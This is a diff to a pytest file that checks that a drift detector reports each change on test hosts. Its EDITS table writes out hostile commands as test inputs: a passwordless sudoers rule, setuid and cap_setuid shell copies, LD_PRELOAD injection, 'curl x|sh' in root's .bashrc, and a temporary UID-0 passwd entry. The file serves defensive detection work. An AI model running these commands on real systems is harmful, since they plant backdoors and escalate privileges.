@@ -1,4 +1,4 @@
-"""A real host that is changed: inside and outside of an approved window (change.drift), by a wrong clock, and set up anew."""
+"""A real host that is changed: every edit is seen, inside and outside of an approved window (change.drift), by a wrong clock, and set up anew."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import time
 from collections.abc import Iterable
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
+from itertools import pairwise
 
 import pytest
 
@@ -122,6 +123,9 @@ def test_what_is_changed_inside_and_outside_of_a_window_is_told_apart(hosts: Hos
         ("file", "/etc/subgid"): ChangePlace.UNDER,
         ("account", "inside"): ChangePlace.UNDER,
         ("group", "inside"): ChangePlace.UNDER,
+        ("password", "inside"): ChangePlace.UNDER,
+        ("file", "/etc/gshadow"): ChangePlace.UNDER,
+        ("file", "/root/.ssh/authorized_keys"): ChangePlace.UNDER,
         ("unit", "one.service"): ChangePlace.UNDER,
         ("key", "root"): ChangePlace.UNKNOWN,  # nobody knows when: the second look is after the window
     }
@@ -133,6 +137,9 @@ def test_what_is_changed_inside_and_outside_of_a_window_is_told_apart(hosts: Hos
         ("file", "/etc/subgid"): ChangePlace.OUTSIDE,
         ("account", "outside"): ChangePlace.OUTSIDE,
         ("group", "outside"): ChangePlace.OUTSIDE,
+        ("password", "outside"): ChangePlace.OUTSIDE,
+        ("file", "/etc/gshadow"): ChangePlace.OUTSIDE,
+        ("file", "/root/.ssh/authorized_keys"): ChangePlace.OUTSIDE,
         ("unit", "two.service"): ChangePlace.OUTSIDE,
         ("key", "root"): ChangePlace.UNKNOWN,
     }
@@ -171,3 +178,103 @@ def test_host_that_was_set_up_anew_under_its_name_is_named_once(hosts: Hosts) ->
 
     assert [(one.kind, one.name) for one in found.changed] == [("rebuilt", "portal")]
     assert found.unknown == ()
+
+
+EDITS = {
+    "a rule of sudo in a file with a secret's name": (
+        "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz-secret; chmod 440 /etc/sudoers.d/zz-secret",
+        {("file", "/etc/sudoers.d/zz-secret")},
+    ),
+    "a key that is exchanged": ("echo other >/etc/ssl/private/portal.key", {("file", "/etc/ssl/private/portal.key")}),
+    "an environment of a service": (
+        "echo LD_PRELOAD=/tmp/x.so >>/etc/default/portal.env",
+        {("file", "/etc/default/portal.env")},
+    ),
+    "a mode alone": ("chmod 666 /etc/ssh/sshd_config", {("rights", "/etc/ssh/sshd_config")}),
+    "an owner alone": ("chown nobody /usr/local/bin/portal-job", {("rights", "/usr/local/bin/portal-job")}),
+    "the mode of a folder": ("chmod 777 /etc/profile.d", {("rights", "/etc/profile.d/")}),
+    "a setuid shell": (
+        "cp /bin/sh /srv/.hidden; chmod 4755 /srv/.hidden",
+        {("privileged-file", "/srv/.hidden")},
+    ),
+    "capabilities": (
+        "cp /bin/sh /opt/tool; setcap cap_setuid=ep /opt/tool",
+        {("privileged-file", "/opt/tool (capabilities)")},
+    ),
+    "a line of root's shell": ("echo 'curl x|sh' >>/root/.bashrc", {("file", "/root/.bashrc")}),
+    "root's authorized keys by an environment": ("echo x >>/root/.ssh/rc", {("file", "/root/.ssh/rc")}),
+    "an account that came and went": (
+        "useradd -M passing; userdel passing",
+        {("passing-account", "passing")},
+    ),
+    "an account that came and went by hand": (
+        "sed -i '$a hand:x:0:0::/:/bin/sh' /etc/passwd; sed -i '/^hand:/d' /etc/passwd",
+        {("passing-account", "/etc/passwd")},
+    ),
+    "a password for an account that had none": (
+        "echo 'games:Ph4p-luat!7' | chpasswd",
+        {("password", "games")},
+    ),
+    "a unit file of no package": (
+        "mkdir -p /usr/local/lib/systemd/system; printf '[Service]\\nExecStart=/bin/true\\n' >/usr/local/lib/systemd/system/x.service",
+        {("file", "/usr/local/lib/systemd/system/x.service")},
+    ),
+    "a delivered unit file": (
+        "echo '# x' >>/lib/systemd/system/ssh.service",
+        {("file", "/lib/systemd/system/ssh.service")},
+    ),
+    "a link to another program": (
+        "ln -sf /srv/.hidden /etc/alternatives/editor",
+        {("file", "/etc/alternatives/editor")},
+    ),
+    "a certificate to be trusted": (
+        "ln -s /srv/ca.pem /etc/ssl/certs/0a1b2c3d.0",
+        {("file", "/etc/ssl/certs/0a1b2c3d.0")},
+    ),
+    "the mode of a table of cron": (
+        "chmod 666 /var/spool/cron/crontabs/root",
+        {("rights", "/var/spool/cron/crontabs/root")},
+    ),
+}
+"""By what is edited: how, and each kind and name that must be told, and nothing else."""
+HARMLESS = """
+set -e
+touch /root/.bash_history; echo ls >>/root/.bash_history; mkdir -p /root/.ssh; echo 'h ssh-ed25519 A' >>/root/.ssh/known_hosts
+echo 'an:Mot-mat-khau.7' | chpasswd; echo x >/srv/data; cp /bin/true /srv/plain; cp /etc/login.defs /etc/login.new; cat /etc/login.new >/etc/login.defs
+rm /etc/login.new; cat /etc/default/portal.env >/dev/null; id an >/dev/null; ldconfig; systemctl daemon-reload
+"""
+
+
+@pytest.mark.parametrize("release", [13, 12, 11])
+def test_every_edit_is_told_and_what_is_none_is_not(hosts: Hosts, release: int) -> None:
+    with hosts.started(release) as host:
+        host.sh(
+            "mkdir -p /etc/sudoers.d /etc/ssl/private /etc/ssl/certs /var/spool/cron/crontabs /root/.ssh; echo k >/etc/ssl/private/portal.key; "
+            "echo A=1 >/etc/default/portal.env; echo true >/usr/local/bin/portal-job; echo '# x' >/var/spool/cron/crontabs/root; "
+            "touch /root/.bashrc /etc/alternatives/none; ln -sf /bin/true /etc/alternatives/editor; useradd -m an; echo 'an:Mot-mat-khau.6' | chpasswd"
+        )
+        before = looked(host)
+        time.sleep(1.1)
+        host.sh(HARMLESS)
+        views = [before, looked(host)]
+        for script, _expected in EDITS.values():
+            time.sleep(1.1)  # the kernel's own times are read in whole seconds
+            host.sh(script)
+            views.append(looked(host))
+    told = [
+        {
+            (
+                one.kind,
+                one.name.removeprefix("/usr") if "/lib/systemd/" in one.name and "local" not in one.name else one.name,
+            )
+            for one in drift_between("portal", *pair).changed
+        }
+        for pair in pairwise(views)
+    ]
+    unknown = drift_between("portal", views[0], views[1]).unknown
+
+    assert dict(zip(("harmless", *EDITS), told, strict=True)) == {
+        "harmless": set(),
+        **{name: expected for name, (_script, expected) in EDITS.items()},
+    }
+    assert {each.kind for each in unknown} == {"repository"}  # no list of packages was ever fetched there
